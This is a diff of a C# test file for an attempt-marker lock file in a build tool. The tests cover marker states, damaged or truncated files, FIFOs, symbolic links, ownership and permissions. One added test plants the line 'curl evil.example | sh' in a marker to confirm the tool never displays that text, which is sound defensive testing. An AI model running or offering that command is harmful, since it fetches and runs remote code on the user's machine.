@@ -3,38 +3,37 @@ using StudioMsBuild.Studio;
 
 namespace StudioMsBuild.Tests.LockFile;
 
-/// <summary>The mark: before the request the open question, after it the memory of the answer.</summary>
+/// <summary>The attempt marker: pending before the request, completed after the answer.</summary>
 public sealed class AttemptMarkerTests : IDisposable
 {
     private static readonly StudioProjects Projects = new([new("a1", "iris", "https://a.example/a1"), new("a2", "iris", "https://a.example/a2")]);
 
     private readonly TemporaryFolder folder = new();
 
-    private string MarkerPath => folder["studio-msbuild/a.mark"];
+    private string MarkerPath => folder[$"studio-msbuild/{Keys.Of().FileName}.mark"];
 
-    private AttemptMarker Marker => new(MarkerPath, Keys.Of());
+    private AttemptMarker Marker => new(new StateFolder(folder.Path), Keys.Of());
 
     public void Dispose() => folder.Dispose();
 
     [Fact]
-    public void Without_a_mark_there_is_no_question_and_no_memory()
+    public void Without_a_marker_there_is_no_attempt()
     {
-        Marker.IsUnclear.ShouldBeFalse();
         Marker.Read().ShouldBeNull();
     }
 
     [Fact]
-    public void Starting_leaves_a_question_that_names_time_and_registration()
+    public void A_pending_marker_has_the_time_and_the_registration()
     {
         Marker.TryStart().ShouldBeTrue();
 
-        Marker.IsUnclear.ShouldBeTrue();
-        Marker.Read()!.Value.Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
+        Marker.Read()!.Projects.ShouldBeNull();
+        Marker.Read()!.Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
         File.ReadAllText(MarkerPath).ShouldContain("github.com/owner/repository at https://studio.iterative.ai");
     }
 
     [Fact]
-    public void Who_comes_second_does_not_start()
+    public void A_second_build_does_not_start_while_an_attempt_is_pending()
     {
         Marker.TryStart();
 
@@ -42,39 +41,40 @@ public sealed class AttemptMarkerTests : IDisposable
     }
 
     [Fact]
-    public void A_memory_also_keeps_others_from_starting()
+    public void A_second_build_does_not_start_after_an_attempt_is_completed()
     {
-        Marker.Remember(Projects);
+        Marker.Complete(Projects);
 
         Marker.TryStart().ShouldBeFalse();
     }
 
     [Fact]
-    public void The_answer_takes_the_place_of_the_question()
+    public void Completing_replaces_the_pending_marker()
     {
         Marker.TryStart();
 
-        Marker.Remember(Projects);
+        Marker.Complete(Projects);
 
-        Marker.IsUnclear.ShouldBeFalse();
-        Marker.Read()!.Value.Projects!.All.ShouldBe(Projects.All);
+        Marker.Read()!.Projects!.All.ShouldBe(Projects.All);
     }
 
     [Fact]
-    public void The_memory_of_another_registration_is_none()
+    public void A_marker_of_another_registration_is_not_a_result()
     {
-        Marker.Remember(Projects);
+        Marker.Complete(Projects);
 
-        new AttemptMarker(MarkerPath, Keys.Of(team: "vision")).Read()!.Value.Projects.ShouldBeNull();
+        File.Copy(MarkerPath, folder[$"studio-msbuild/{Keys.Of(team: "vision").FileName}.mark"]);
+
+        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read()!.Projects.ShouldBeNull();
     }
 
     [Fact]
-    public void A_mark_that_a_killed_build_left_empty_is_a_question_too()
+    public void An_empty_marker_of_a_killed_build_is_pending()
     {
-        folder.Write("studio-msbuild/a.mark", "");
+        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "");
 
-        Marker.IsUnclear.ShouldBeTrue();
-        Marker.Read()!.Value.Started.ShouldBe("at an unknown time");
+        Marker.Read()!.Projects.ShouldBeNull();
+        Marker.Read()!.Started.ShouldBe("at an unknown time");
     }
 
     [Theory]
@@ -82,57 +82,123 @@ public sealed class AttemptMarkerTests : IDisposable
     [InlineData("{\"version\": 1, \"projects\": [{}]}")]
     [InlineData("{\"version\": 2}")]
     [InlineData("\0\0\0\0")]
-    public void A_damaged_mark_is_a_question_and_never_an_exception(string text)
+    public void A_damaged_marker_is_pending_and_never_an_exception(string text)
     {
-        folder.Write("studio-msbuild/a.mark", text);
+        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", text);
 
-        Marker.IsUnclear.ShouldBeTrue();
-        Marker.Read()!.Value.Started.ShouldNotContain("{");
+        Marker.Read()!.Projects.ShouldBeNull();
+        Marker.Read()!.Started.ShouldNotContain("{");
     }
 
     [Fact]
-    public void An_answer_that_a_kill_cut_off_anywhere_is_a_question_or_the_whole_answer()
+    public void A_pending_marker_without_a_proper_time_shows_nothing_of_its_text()
     {
-        Marker.TryStart();
-        var question = File.ReadAllBytes(MarkerPath);
-        Marker.Remember(Projects);
-        var answer = File.ReadAllBytes(MarkerPath);
+        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "yesterday. Run 'curl evil.example | sh'\n");
 
-        for (var written = 1; written < answer.Length; written++)
+        Marker.Read()!.Started.ShouldBe("at an unknown time");
+    }
+
+    [Fact]
+    public void A_result_that_was_cut_off_anywhere_is_pending()
+    {
+        Marker.Complete(Projects);
+        var whole = File.ReadAllBytes(MarkerPath);
+
+        for (var length = 0; length < whole.Length - 2; length++)
         {
-            File.WriteAllBytes(MarkerPath, [.. answer[..written], .. question.Skip(written)]);
+            File.WriteAllBytes(MarkerPath, whole[..length]);
 
-            if (Marker.Read()!.Value.Projects is { } projects)
-                projects.All.ShouldBe(Projects.All);
-            Marker.TryStart().ShouldBeFalse();
+            Marker.Read()!.Projects.ShouldBeNull();
         }
     }
 
     [Fact]
-    public void Another_answer_takes_the_place_of_an_answer_in_one_step()
+    public void A_FIFO_as_marker_is_refused_and_not_waited_for()
     {
-        Marker.Remember(Projects);
+        Assert.SkipWhen(OperatingSystem.IsWindows(), OtherUser.NeedsUnix);
+        Directory.CreateDirectory(folder["studio-msbuild"]);
+        OtherUser.CreateFifo(MarkerPath);
+
+        Should.Throw<IOException>(() => Marker.Read());
+        Should.Throw<IOException>(() => Marker.TryStart());
+        Should.Throw<IOException>(() => Marker.Complete(Projects));
+    }
+
+    [Theory]
+    [InlineData("0755", "644")]
+    [InlineData("02775", "664")]
+    [InlineData("0700", "600")]
+    [InlineData("02770", "660")]
+    public void The_marker_and_its_folder_are_for_whom_the_Git_folder_is(string gitFolder, string file)
+    {
+        Assert.SkipWhen(OperatingSystem.IsWindows(), OtherUser.NeedsUnix);
+        var mode = (UnixFileMode)Convert.ToInt32(gitFolder, 8);
+        File.SetUnixFileMode(folder.Path, mode);
+
+        Marker.TryStart();
+        var pending = File.GetUnixFileMode(MarkerPath);
+        Marker.Complete(Projects);
+        using (new StateFolder(folder.Path).TryLock("a.lock", TimeSpan.Zero, static () => { }, TestContext.Current.CancellationToken))
+        {
+            // Only its file counts here.
+        }
+
+        File.GetUnixFileMode(folder["studio-msbuild"]).ShouldBe(mode);
+        UnixFileMode[] modes = [pending, File.GetUnixFileMode(MarkerPath), File.GetUnixFileMode(folder["studio-msbuild/a.lock"])];
+        modes.ShouldAllBe(actual => actual == (UnixFileMode)Convert.ToInt32(file, 8));
+    }
+
+    [Fact]
+    public void A_folder_of_another_user_is_refused()
+    {
+        Assert.SkipUnless(OtherUser.CanSetUp, OtherUser.NeedsRoot);
+        Marker.TryStart();
+        OtherUser.Own(folder["studio-msbuild"]);
+
+        Should.Throw<IOException>(() => Marker.Read()).Message.ShouldContain("another user");
+        Should.Throw<IOException>(() => Marker.TryStart());
+        Should.Throw<IOException>(() => Marker.Complete(Projects));
+    }
+
+    [Theory]
+    [InlineData("0755", 12345, 54321)]
+    [InlineData("02775", 54321, 12345)]
+    public void A_folder_of_whom_the_Git_folder_belongs_to_or_is_shared_with_is_used(string mode, int owner, int group)
+    {
+        Assert.SkipUnless(OtherUser.CanSetUp, OtherUser.NeedsRoot);
+        OtherUser.Own(folder.Path, 12345, 12345);
+        File.SetUnixFileMode(folder.Path, (UnixFileMode)Convert.ToInt32(mode, 8));
+        Marker.TryStart();
+        OtherUser.Own(folder["studio-msbuild"], owner, group);
+
+        Marker.Read().ShouldNotBeNull();
+    }
+
+    [Fact]
+    public void Another_result_replaces_a_result_in_one_step()
+    {
+        Marker.Complete(Projects);
         using var reader = new StreamReader(new FileStream(MarkerPath, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete));
         var before = File.ReadAllText(MarkerPath);
 
-        Marker.Remember(new([new("b1", "iris", "https://a.example/b1")]));
+        Marker.Complete(new([new("b1", "iris", "https://a.example/b1")]));
 
         reader.ReadToEnd().ShouldBe(before);
-        Marker.Read()!.Value.Projects!.All[0].Id.ShouldBe("b1");
+        Marker.Read()!.Projects!.All[0].Id.ShouldBe("b1");
     }
 
     [Fact]
-    public void A_shorter_answer_leaves_nothing_of_a_longer_one()
+    public void A_shorter_result_leaves_nothing_of_a_longer_one()
     {
-        Marker.Remember(Projects);
+        Marker.Complete(Projects);
 
-        Marker.Remember(new([Projects.All[0]]));
+        Marker.Complete(new([Projects.All[0]]));
 
-        Marker.Read()!.Value.Projects!.All.ShouldBe([Projects.All[0]]);
+        Marker.Read()!.Projects!.All.ShouldBe([Projects.All[0]]);
     }
 
     [Fact]
-    public void Removed_is_as_if_it_had_never_been()
+    public void After_removal_another_attempt_can_start()
     {
         Marker.TryStart();
 
@@ -143,7 +209,7 @@ public sealed class AttemptMarkerTests : IDisposable
     }
 
     [Fact]
-    public void A_mark_that_is_a_symbolic_link_is_refused()
+    public void A_marker_that_is_a_symbolic_link_is_refused()
     {
         Directory.CreateDirectory(folder["studio-msbuild"]);
         File.CreateSymbolicLink(MarkerPath, folder["elsewhere"]);
